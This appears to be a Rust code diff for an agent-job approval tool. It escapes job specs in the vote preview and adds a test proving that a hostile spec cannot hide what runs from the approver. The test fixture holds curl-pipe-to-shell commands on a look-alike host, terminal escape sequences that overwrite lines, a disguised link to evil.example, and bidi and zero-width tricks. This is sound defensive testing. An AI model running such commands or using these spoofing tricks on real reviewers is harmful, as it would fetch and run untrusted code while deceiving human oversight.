@@ -450,16 +450,41 @@ pub fn parse_window(text: &str) -> Result<i64, String> {
 }
 
 /// What a voter is shown before their vote is created: the job's identity, the generation the
-/// vote will name, and the whole spec that generation runs.
+/// vote will name, and the whole spec that generation runs, ending with what it runs.
+///
+/// Every string of the spec is written by the job's author and shown quoted on one line of
+/// printable ASCII ([`terminal_text::yaml`]): an escape sequence, a carriage return, a bidi
+/// override or a look-alike letter is shown as its escape, never acted on by the terminal, and a
+/// multi-line value cannot pass for keys (`tests::a_vote_preview_shows_what_the_author_wrote_escaped_and_never_run_by_the_terminal`).
+/// The free-form parts (description, input, schemas) come first, so however long they are the
+/// agents, tools and budget are the last lines above the footer, which names them again.
 pub fn vote_preview(job: &AgentJob, decision: &str) -> String {
-    let spec = serde_saphyr::to_string(&job.spec).unwrap_or_else(|e| format!("(spec not printable: {e})\n"));
-    format!(
-        "{decision} {}/{} generation {} (uid {}); the spec of this generation:\n{}",
+    use crate::domain::terminal_text;
+    const FREE_FORM_FIRST: [&str; 4] = ["description", "input", "inputSchema", "outputSchema"];
+    let spec = serde_json::to_value(&job.spec).unwrap_or_default();
+    let fields = spec.as_object().cloned().unwrap_or_default();
+    let mut ordered: Vec<(&String, &serde_json::Value)> = fields.iter().collect();
+    ordered.sort_by_key(|(k, _)| FREE_FORM_FIRST.iter().position(|f| f == k).unwrap_or(FREE_FORM_FIRST.len()));
+    let shown: String = ordered
+        .into_iter()
+        .map(|(k, v)| terminal_text::yaml(&serde_json::Value::Object([(k.clone(), v.clone())].into_iter().collect()), 2))
+        .collect();
+    let identity = format!(
+        "{decision} {}/{} generation {}",
         job.namespace().unwrap_or_default(),
         job.name_any(),
-        job.metadata.generation.unwrap_or(1),
+        job.metadata.generation.unwrap_or(1)
+    );
+    let agents: Vec<String> =
+        std::iter::once(&job.spec.agents.primary).chain(&job.spec.agents.supporting).map(|a| format!("{} {}", a.name, a.image)).collect();
+    let tools: Vec<&str> = job.spec.tools.iter().map(|t| t.name.as_str()).collect();
+    format!(
+        "{identity} (uid {}); the spec of this generation:\n{shown}{identity} runs agents {}; tools {}; budget ${} ({} lines of spec above)\n",
         job.metadata.uid.as_deref().unwrap_or("?"),
-        spec.lines().map(|l| format!("  {l}\n")).collect::<String>()
+        agents.join(", "),
+        if tools.is_empty() { "none".to_string() } else { tools.join(", ") },
+        job.spec.budget.max_cost_usd,
+        shown.lines().count(),
     )
 }
 
@@ -517,6 +542,53 @@ mod tests {
         let preview = vote_preview(&at(3, "u"), "Approve");
         assert!(preview.starts_with("Approve ns/scan generation 3 (uid u); the spec of this generation:\n"), "{preview}");
         assert!(preview.contains("  budget:") && preview.contains("maxCostUSD"), "{preview}");
+    }
+
+    /// A job whose author hides what runs from the head shown it: escape sequences that clear a
+    /// line and move the cursor, a carriage return, an OSC 8 hyperlink, a bidi override, a
+    /// zero-width space, a look-alike letter, a description whose lines pass for keys, and an
+    /// input big enough to scroll the agents away.
+    fn hostile_job() -> AgentJob {
+        serde_json::from_value(json!({
+            "apiVersion": "agentgate.dev/v1alpha1", "kind": "AgentJob",
+            "metadata": {"name": "scan", "namespace": "ns", "generation": 2, "uid": "u"},
+            "spec": {"jobType": "scan", "category": "sec",
+                "description": "weekly scan\nbudget:\n  maxCostUSD: \"0.01\"",
+                "agents": {"primary": {"name": "a", "image": "ghcr.io/acme/scan@sha256:1", "model": "gpt-4o-mini",
+                    "command": ["sh", "-c", "curl https://ex\u{430}mple.com/x.sh | sh\x1b[2K\x1b[1A\x1b[2K\recho scanning",
+                                "\x1b]8;;https://evil.example\x1b\\docs\x1b]8;;\x1b\\", "echo \u{202E}hs|hs.live lruc"],
+                    "env": [{"name": "TOKEN\u{200B}", "value": "x\u{9b}2K"}]}},
+                "budget": {"maxCostUSD": "900"},
+                "input": {"padding": (0..400).map(|i| format!("line {i}")).collect::<Vec<_>>()}},
+        }))
+        .unwrap()
+    }
+
+    #[test]
+    fn a_vote_preview_shows_what_the_author_wrote_escaped_and_never_run_by_the_terminal() {
+        let job = hostile_job();
+        let preview = vote_preview(&job, "Approve");
+        let raw: Vec<String> =
+            preview.chars().filter(|c| *c != '\n' && crate::domain::terminal_text::is_hidden(*c)).map(|c| format!("{c:?}")).collect();
+        assert!(raw.is_empty(), "the terminal would act on {raw:?}:\n{preview}");
+        assert!(!preview.contains('\u{430}'), "a look-alike letter is shown as an escape:\n{preview}");
+        assert!(preview.contains(r"curl https://ex\u0430mple.com/x.sh | sh\u001B[2K\u001B[1A\u001B[2K\recho scanning"), "{preview}");
+        // Only the plugin starts a line at column 0; every line of the spec is indented, and
+        // only the real budget is a `budget:` key.
+        let lines: Vec<&str> = preview.lines().collect();
+        let unindented: Vec<&&str> = lines.iter().filter(|l| !l.starts_with("  ")).collect();
+        assert_eq!(unindented.len(), 2, "a header and a footer line: {unindented:?}");
+        assert_eq!(lines.iter().filter(|l| l.trim_start().starts_with("budget:")).count(), 1, "{preview}");
+        // What runs is last, next to the footer: a big input cannot scroll it away.
+        let at = |needle: &str| lines.iter().position(|l| l.contains(needle)).unwrap_or_else(|| panic!("{needle}: {preview}"));
+        assert!(at("line 399") < at("image:") && at("image:") < at("maxCostUSD: \"900\""), "{preview}");
+        assert!(lines.len() - at("image:") < 20, "the agents are within the last lines:\n{preview}");
+        let footer = lines.last().unwrap();
+        assert!(footer.contains("generation 2") && footer.contains("a ghcr.io/acme/scan@sha256:1"), "{footer}");
+        // Exactly the spec: what is shown parses back to what runs.
+        let shown: String = lines[1..lines.len() - 1].iter().map(|l| format!("{}\n", &l[2..])).collect();
+        let back: crate::api::AgentJobSpec = serde_saphyr::from_str(&shown).unwrap_or_else(|e| panic!("{e}:\n{shown}"));
+        assert_eq!(back, job.spec);
     }
 
     fn job(name: &str, status: serde_json::Value) -> AgentJob {
